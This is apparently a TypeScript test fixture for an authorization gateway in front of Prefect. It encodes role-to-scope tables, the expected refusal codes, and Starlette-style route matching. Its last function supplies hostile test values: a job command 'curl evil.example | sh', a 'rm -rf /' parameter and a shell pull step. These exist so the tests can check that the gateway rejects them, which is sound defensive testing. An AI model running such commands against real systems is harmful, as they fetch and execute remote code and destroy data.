// What the gateway must answer, as data, for test/authz/gateway-matrix.test.ts: who reaches which
// workspace with which workspace role, and which built-in role holds each scope the gateway checks.
//
// Where the expectations come from:
// - Route → scopes: src/gateway/route-table.ts is the contract. It is not restated here;
//   src/gateway/route-table.test.ts holds it to the inventory read from Prefect's source, and its
//   scope choices are argued in docs/gateway-routes.md. The matrix checks that the gateway enforces
//   what the table says, for every entry, and that it forwards nothing the table does not declare.
// - Role → scopes: SCOPE_HOLDERS below, transcribed by hand from docs/roles.md ("Workspace roles":
//   the Viewer and Worker lists, "Runner = Viewer + run_deployments", the Developer additions with
//   "the lower rungs of each family come with them", "Owner: all scopes"). It is deliberately not
//   computed from src/authz/workspace-roles.ts or expandScopes(): if the code and the documented
//   roles drift apart, cells fail here. (test/authz/matrix.test.ts separately checks that every
//   caller of the fixture really holds its role.) Only the scopes the route table names have a
//   row; a table entry naming a scope without a row fails the matrix until a row is written here,
//   from the docs.
// - Who reaches what: DESIGN contract 5 (no access is 404, like a workspace that does not exist)
//   and docs/roles.md ("implicit workspace owner access on all workspaces" for account Owners and
//   Admins).
// - Which entry a request is for: Starlette's rule (first entry in table order whose method and
//   template match), at the end of this file.
import { ROUTE_TABLE, type FieldScope, type GatewayRoute } from '../../src/gateway/route-table.js';
import type { Caller } from './policy.js';
import { CUSTOM_ROLE } from './policy.js';

/**
 * A built-in workspace role, or `Custom`: the fixture's custom role (policy.ts CUSTOM_ROLE), which
 * inherits Viewer and adds see_secret_blocks, write_workspace_settings, see_workspace_service_accounts.
 */
export type Role = 'Owner' | 'Developer' | 'Runner' | 'Viewer' | 'Worker' | 'Custom';

/** Every role: the Viewer's see_* scopes that the Worker list in docs/roles.md names too. */
const EVERY_ROLE: readonly Role[] = ['Owner', 'Developer', 'Runner', 'Viewer', 'Worker', 'Custom'];
const OWNER_DEVELOPER: readonly Role[] = ['Owner', 'Developer'];
const OWNER_DEVELOPER_WORKER: readonly Role[] = ['Owner', 'Developer', 'Worker'];

/**
 * For each scope the route table names: the roles that hold it, per docs/roles.md. Grouped by
 * family (docs/roles.md "Workspace scopes and their hierarchy"), low rung to high.
 */
export const SCOPE_HOLDERS: Readonly<Record<string, readonly Role[]>> = {
  // Flows: see_flows < run_tasks < run_flows < manage_flows; manage_saved_search beside them.
  // Worker: "run_flows, run_tasks, see_flows"; Developer: manage_flows, manage_saved_search.
  see_flows: EVERY_ROLE,
  run_tasks: OWNER_DEVELOPER_WORKER,
  run_flows: OWNER_DEVELOPER_WORKER,
  manage_flows: OWNER_DEVELOPER,
  manage_saved_search: OWNER_DEVELOPER,

  // Deployments: Runner is "Viewer + run deployments"; the Worker only sees deployments.
  see_deployments: EVERY_ROLE,
  run_deployments: ['Owner', 'Developer', 'Runner'],
  write_deployments: OWNER_DEVELOPER,
  manage_deployments: OWNER_DEVELOPER,

  // Work pools, queues, workers: the Worker sees pools and queues and writes workers (polling,
  // heartbeats); creating or changing a pool is withheld from it on purpose.
  see_work_pools: EVERY_ROLE,
  write_work_pools: OWNER_DEVELOPER,
  manage_work_pools: OWNER_DEVELOPER,
  see_work_queues: EVERY_ROLE,
  write_work_queues: OWNER_DEVELOPER,
  manage_work_queues: OWNER_DEVELOPER,
  see_workers: EVERY_ROLE,
  write_workers: OWNER_DEVELOPER_WORKER,
  manage_workers: OWNER_DEVELOPER,

  // Blocks: see_blocks < see_secret_blocks < manage_blocks. "not see_secret_blocks" for Viewer
  // (so Runner) and Worker; the custom role adds it.
  see_blocks: EVERY_ROLE,
  see_secret_blocks: ['Owner', 'Developer', 'Custom'],
  manage_blocks: OWNER_DEVELOPER,

  // Artifacts: the Worker writes them (a flow's code runs with the worker's key).
  see_artifacts: EVERY_ROLE,
  write_artifacts: OWNER_DEVELOPER_WORKER,
  manage_artifacts: OWNER_DEVELOPER,

  // Variables: read by everyone who runs or looks at runs; written by Developer and up.
  see_variables: EVERY_ROLE,
  write_variables: OWNER_DEVELOPER,
  manage_variables: OWNER_DEVELOPER,

  // Concurrency limits: see_ < manage_.
  see_concurrency_limits: EVERY_ROLE,
  manage_concurrency_limits: OWNER_DEVELOPER,

  // Events: see_ < manage_; the Worker emits events, so it holds manage_events.
  see_events: EVERY_ROLE,
  manage_events: OWNER_DEVELOPER_WORKER,

  // Automations: the Viewer sees "all automations" (so Runner and Custom, built on it, do too);
  // the Worker list does not name them.
  see_automations: ['Owner', 'Developer', 'Runner', 'Viewer', 'Custom'],
  manage_automations: OWNER_DEVELOPER,

  // Workspace settings: see_ < write_ < manage_. "not write_/manage_workspace_settings" for the
  // Developer: setting and editing settings is Owner only; the custom role may edit them.
  write_workspace_settings: ['Owner', 'Custom'],
  manage_workspace_settings: ['Owner'],
};

// The custom role's own scopes must show up as held by it wherever they have a row.
for (const scope of CUSTOM_ROLE.scopes) {
  if (SCOPE_HOLDERS[scope] && !SCOPE_HOLDERS[scope].includes('Custom')) {
    throw new Error(`gateway-policy.ts: ${scope} is one of CUSTOM_ROLE's scopes but its row leaves out Custom`);
  }
}

/** The three workspaces each cell is sent to. */
export const TARGETS = ['own', 'hidden', 'other_account'] as const;
export type Target = (typeof TARGETS)[number];

/**
 * The role each caller has in each target; absent: no access (404). `own` is A's workspace W,
 * `hidden` is A's workspace nobody was granted, `other_account` is B's workspace.
 */
export const ROLE_IN: Readonly<Record<Target, Partial<Record<Caller, Role>>>> = {
  own: {
    owner: 'Owner', // account Owner: implicit workspace Owner
    admin: 'Owner', // account Admin: "same as Owner"
    member_viewer: 'Viewer',
    bot_owner: 'Owner',
    bot_developer: 'Developer',
    bot_runner: 'Runner',
    bot_viewer: 'Viewer',
    bot_worker: 'Worker',
    bot_custom: 'Custom',
  },
  hidden: { owner: 'Owner', admin: 'Owner' },
  other_account: { other_owner: 'Owner' },
};

const UNAUTHENTICATED: ReadonlySet<Caller> = new Set(['anonymous', 'malformed', 'removed_bot']);

/** A refusal: the status and the error code of its body. */
export interface Denial {
  status: 401 | 403 | 404;
  code: 'UNAUTHENTICATED' | 'NOT_FOUND' | 'FORBIDDEN' | 'GATEWAY_ROUTE_UNKNOWN';
}
export type Expectation = { refused: Denial } | { forwarded: true };

/** The two ways the gateway enforces: its own proxy, and forward-auth for a proxy in front of Prefect. */
export type Via = 'proxy' | 'forward-auth';

/**
 * A request form that uses one field rule of an entry (route table `fieldScopes`), or sends the
 * field in a way that does not use it (`uses: false`), as docs/gateway-routes.md reads each kind:
 * a lax-bool flag, a field sent with a value, a field sent at all, a SCHEDULED state, a `__prefect_kind` placeholder, a `$ref`
 * outside the schema. Written from those readings, not from src/gateway/match.ts.
 */
export interface FieldExample {
  label: string;
  query?: string;
  body?: unknown;
  uses: boolean;
}

const PLACEHOLDER_VALUE = { x: { __prefect_kind: 'workspace_variable', variable_name: 'matrix_var' } };

export function fieldExamples(rule: FieldScope): FieldExample[] {
  const inBody = (value: unknown, control: unknown | undefined): FieldExample[] => {
    const wrap = (v: unknown) => (rule.field === '*' ? [{ parameters: v }] : { [rule.field]: v });
    const out: FieldExample[] = [{ label: ` ${JSON.stringify(wrap(value))}`, body: wrap(value), uses: true }];
    if (control !== undefined) out.push({ label: ` ${JSON.stringify(wrap(control))}`, body: wrap(control), uses: false });
    return out;
  };
  switch (rule.when) {
    case 'true':
      if (rule.in === 'query') {
        return [true, false].map((flag) => ({ label: `?${rule.field}=${flag}`, query: `${rule.field}=${flag}`, uses: flag }));
      }
      return inBody(true, false);
    case 'given':
      // A value; null is the field's default, as if it were absent.
      return inBody('matrix', null);
    case 'set':
      // Sent at all, null included; its absence (the plain `{}` form) is the control.
      return inBody(null, undefined);
    case 'scheduled':
      return inBody({ type: 'SCHEDULED' }, { type: 'RUNNING' });
    case 'hydrated':
      return inBody(PLACEHOLDER_VALUE, { x: 1 });
    case 'remote_ref':
      return inBody({ $ref: 'http://127.0.0.1:9/schema.json' }, { $ref: '#/definitions/a' });
  }
}

/**
 * The scopes one request form needs: the route table's, plus those of the field rule it uses;
 * forward-auth never sees the body (docs/forward-auth.md), so there every body rule counts as used.
 */
export function scopesNeeded(route: GatewayRoute, used: FieldScope | undefined, via: Via): string[] {
  const rules = (route.fieldScopes ?? []).filter((rule) => rule === used || (via === 'forward-auth' && rule.in === 'body'));
  return [...new Set([...route.scopes, ...rules.flatMap((rule) => rule.scopes)])];
}

/** Whether `role` holds `scope` according to SCOPE_HOLDERS; throws for a scope with no row. */
export function holds(role: Role, scope: string): boolean {
  const holders = SCOPE_HOLDERS[scope];
  if (!holders) throw new Error(`gateway-policy.ts has no row for the scope ${scope}: add the roles that hold it, from docs/roles.md`);
  return holders.includes(role);
}

/**
 * What the gateway's proxy must do with a request from `caller` to `target` that needs the scopes
 * `needed`, or that is for no entry of the route table (`null`: refused for every role).
 */
export function expectedAtGateway(caller: Caller, target: Target, needed: readonly string[] | null): Expectation {
  if (UNAUTHENTICATED.has(caller)) return { refused: { status: 401, code: 'UNAUTHENTICATED' } };
  const role = ROLE_IN[target][caller];
  if (!role) return { refused: { status: 404, code: 'NOT_FOUND' } };
  if (needed === null) return { refused: { status: 403, code: 'GATEWAY_ROUTE_UNKNOWN' } };
  return needed.every((scope) => holds(role, scope)) ? { forwarded: true } : { refused: { status: 403, code: 'FORBIDDEN' } };
}

/**
 * What forward-auth must answer for the same request: 204 to let it through, else 401 or 403. It
 * can only answer 2xx, 401 or 403, so no access to the workspace is a 403 there (docs/forward-auth.md).
 */
export function expectedAtForwardAuth(caller: Caller, target: Target, needed: readonly string[] | null): { status: 204 } | Denial {
  const verdict = expectedAtGateway(caller, target, needed);
  if ('forwarded' in verdict) return { status: 204 };
  return verdict.refused.status === 404 ? { status: 403, code: 'FORBIDDEN' } : verdict.refused;
}

// Which entry a request is for. Concrete paths fill `{x:uuid}` with a fixed UUID, `{x}` and
// `{x:str}` with a safe name, `{x:path}` with `a/b`. Starlette's converters are written out here
// (not taken from src/gateway/match.ts) to find the entry Starlette would route a path to.
const PLACEHOLDER = /\{([A-Za-z_][A-Za-z0-9_]*)(?::([a-z]+))?\}/g;
const FILLERS: Readonly<Record<string, string>> = { uuid: '5d0c2f4e-8a1b-4c3d-9e7f-0a1b2c3d4e5f', str: 'matrix-name', path: 'a/b' };
const CONVERTERS: Readonly<Record<string, string>> = { uuid: '[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}', str: '[^/]+', path: '.*' };

/** What a client would send for `template`. */
export function concretePath(template: string): string {
  return template.replace(PLACEHOLDER, (_, name: string, converter = 'str') => {
    const value = FILLERS[converter];
    if (value === undefined) throw new Error(`gateway-policy.ts has no filler for {${name}:${converter}} in ${template}: add one to FILLERS`);
    return value;
  });
}

const patterns = new Map<string, RegExp>();
function templatePattern(template: string): RegExp {
  let pattern = patterns.get(template);
  if (!pattern) {
    // split() with two groups yields [text, name, converter, text, name, converter, ..., text].
    const parts = template.split(PLACEHOLDER);
    let source = '^';
    for (let i = 0; i < parts.length; i += 3) {
      source += parts[i].replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
      if (i + 1 < parts.length) source += `(?:${CONVERTERS[parts[i + 2] ?? 'str']})`;
    }
    pattern = new RegExp(`${source}$`);
    patterns.set(template, pattern);
  }
  return pattern;
}

/** The entry Starlette would route `method path` to: the first in table order that matches. */
export const firstClaim = (method: string, path: string): GatewayRoute | undefined =>
  ROUTE_TABLE.find((r) => r.method === method && templatePattern(r.path).test(path));

/** Whether any HTTP entry matches `path`, whatever its method (Starlette then never redirects it). */
export const matchesAnyHttpEntry = (path: string): boolean => ROUTE_TABLE.some((r) => r.method !== 'WS' && templatePattern(r.path).test(path));

/**
 * Body fields of Prefect's action schemas (src/prefect/server/schemas/actions.py, read in 3.4.25
 * and 3.9.1) that choose what a worker runs, where, or with what: a deployment, a work pool or
 * queue, job variables (laid over the deployment's by the worker: command, environment, image),
 * an infrastructure block, a run's parameters, a pool's base job template, a deployment's code
 * location. docs/roles.md promises that a role without run_deployments and write_deployments (the
 * Worker) runs no deployment and no code of its choosing, whatever the body; so each field below,
 * sent to its route by such a role, must be refused before it reaches Prefect. Parameters of a new
 * ad-hoc or subflow run (FlowRunCreate without the fields above) are not listed: only that run's
 * own code reads them. On a create, null is a field's default, the same as leaving it out (Prefect's
 * 3.0–3.2 clients send every field, null where unset); on an update (`update`) Prefect applies only
 * the fields sent, so null there changes the run too.
 */
export const RUN_CHOOSING_FIELDS: ReadonlyArray<{ schema: string; method: string; path: string; fields: readonly string[]; list?: true; update?: true }> = [
  { schema: 'FlowRunCreate', method: 'POST', path: '/flow_runs/', fields: ['deployment_id', 'work_pool_name', 'work_queue_name', 'job_variables', 'infrastructure_document_id'] },
  { schema: 'FlowRunUpdate', method: 'PATCH', path: '/flow_runs/{id:uuid}', fields: ['job_variables', 'parameters'], update: true },
  { schema: 'DeploymentFlowRunCreate', method: 'POST', path: '/deployments/{id:uuid}/create_flow_run', fields: ['work_queue_name', 'job_variables', 'infrastructure_document_id', 'parameters'] },
  { schema: 'DeploymentFlowRunCreate', method: 'POST', path: '/deployments/{id:uuid}/create_flow_run/bulk', fields: ['work_queue_name', 'job_variables', 'infrastructure_document_id', 'parameters'], list: true },
  { schema: 'DeploymentCreate', method: 'POST', path: '/deployments/', fields: ['work_pool_name', 'work_queue_name', 'job_variables', 'infrastructure_document_id', 'parameters', 'pull_steps', 'entrypoint', 'path'] },
  { schema: 'DeploymentUpdate', update: true, method: 'PATCH', path: '/deployments/{id:uuid}', fields: ['work_pool_name', 'work_queue_name', 'job_variables', 'infrastructure_document_id', 'parameters', 'pull_steps', 'entrypoint', 'path'] },
  { schema: 'WorkPoolCreate', method: 'POST', path: '/work_pools/', fields: ['base_job_template'] },
  { schema: 'WorkPoolUpdate', update: true, method: 'PATCH', path: '/work_pools/{name}', fields: ['base_job_template'] },
];

/** A value of the kind each field takes; job variables carry the command the finding used. */
export function runChoosingValue(field: string): unknown {
  if (field.endsWith('_id')) return '5d0c2f4e-8a1b-4c3d-9e7f-0a1b2c3d4e5f';
  if (field === 'job_variables') return { command: 'sh -c "curl evil.example | sh"', env: { PREFECT_API_KEY: 'x' } };
  if (field === 'parameters') return { cmd: 'rm -rf /' };
  if (field === 'base_job_template') return { job_configuration: { command: '{{ command }}' }, variables: { properties: {} } };
  if (field === 'pull_steps') return [{ 'prefect.deployments.steps.run_shell_script': { script: 'id' } }];
  return 'matrix';
}
